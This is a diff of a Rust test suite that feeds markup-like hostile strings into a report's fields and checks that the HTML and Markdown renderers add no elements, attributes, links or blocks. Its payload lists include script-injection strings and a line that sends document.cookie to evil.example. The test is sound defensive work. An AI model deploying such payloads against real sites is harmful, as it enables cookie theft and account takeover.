@@ -1,5 +1,5 @@
-//! Puts text that resembles markup into every report field that can contain foreign text, and
-//! checks the elements that an HTML parser and a Markdown parser then find.
+//! Puts text that resembles markup into the report's fields for foreign text, and checks the
+//! elements that an HTML parser and a Markdown parser then find.
 
 #![allow(clippy::print_stdout, reason = "the test prints its measurements")]
 
@@ -43,8 +43,8 @@ const SHAPES: [&str; 27] = [
     "<ScRiPt\n/src=//evil.example/X>",
 ];
 
-/// The scripts to run, in encodings that a later step might undo.
-const DEEDS: [&str; 8] = [
+/// Scripts, some of them in encodings that a later step might undo.
+const SCRIPTS: [&str; 8] = [
     "alert(1)",
     "fetch('http://evil.example/'+document.cookie)",
     "\\u0061lert(1)",
@@ -81,7 +81,7 @@ const MARKDOWN: [&str; 21] = [
 ];
 
 fn payloads() -> Vec<String> {
-    let scripts = SHAPES.iter().flat_map(|shape| DEEDS.iter().map(|deed| shape.replace('X', deed)));
+    let scripts = SHAPES.iter().flat_map(|shape| SCRIPTS.iter().map(|it| shape.replace('X', it)));
     let all: Vec<String> = scripts.chain(MARKDOWN.iter().map(|it| (*it).to_owned())).collect();
     assert!(all.len() >= 200, "{}", all.len());
     assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
@@ -175,33 +175,33 @@ const ATTRIBUTES: &[&str] = &[
 
 /// Checks that a page contains only allowed elements and attributes, and returns the names of its
 /// elements in order.
-fn held(page: &str, reported: &str) -> Vec<String> {
+fn elements(page: &str, text: &str) -> Vec<String> {
     let html = Html::parse_document(page);
     let mut shape = Vec::new();
     for element in html.select(&Selector::parse("*").unwrap()) {
         let name = element.value().name();
-        assert!(ELEMENTS.contains(&name), "{reported} adds the element <{name}>");
+        assert!(ELEMENTS.contains(&name), "{text} adds the element <{name}>");
         for (attribute, value) in element.value().attrs() {
             match attribute {
-                "href" => assert!(value.starts_with('#'), "{reported} links <{name}> to {value}"),
-                _ => assert!(ATTRIBUTES.contains(&attribute), "{reported} adds {attribute}"),
+                "href" => assert!(value.starts_with('#'), "{text} links <{name}> to {value}"),
+                _ => assert!(ATTRIBUTES.contains(&attribute), "{text} adds {attribute}"),
             }
         }
         shape.push(name.to_owned());
     }
-    assert_eq!(html.select(&Selector::parse("meta[http-equiv]").unwrap()).count(), 1, "{reported}");
+    assert_eq!(html.select(&Selector::parse("meta[http-equiv]").unwrap()).count(), 1, "{text}");
     shape
 }
 
 #[test]
 fn no_text_becomes_markup_in_a_page() {
     let began = boot_time();
-    let usual = held(&render(&sample::full("usual")), "usual");
+    let usual = elements(&render(&sample::full("usual")), "usual");
     let payloads = payloads();
     for payload in &payloads {
         let report = sample::full(payload);
         // The same elements in the same order show that the payload changed only text.
-        assert_eq!(held(&render(&report), payload), usual, "{payload} changes the elements");
+        assert_eq!(elements(&render(&report), payload), usual, "{payload} changes the elements");
     }
     print_line(&format!(
         "hostile text in pages: {} payloads in {:?}",
@@ -229,7 +229,7 @@ fn no_text_becomes_markup_in_markdown() {
                 Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. }) => {
                     panic!("{payload} adds a link to {dest_url}")
                 }
-                Event::Start(Tag::CodeBlock(_) | Tag::HtmlBlock) => panic!("block: {payload}"),
+                Event::Start(Tag::CodeBlock(_) | Tag::HtmlBlock) => panic!("block from {payload}"),
                 _ => {}
             }
         }
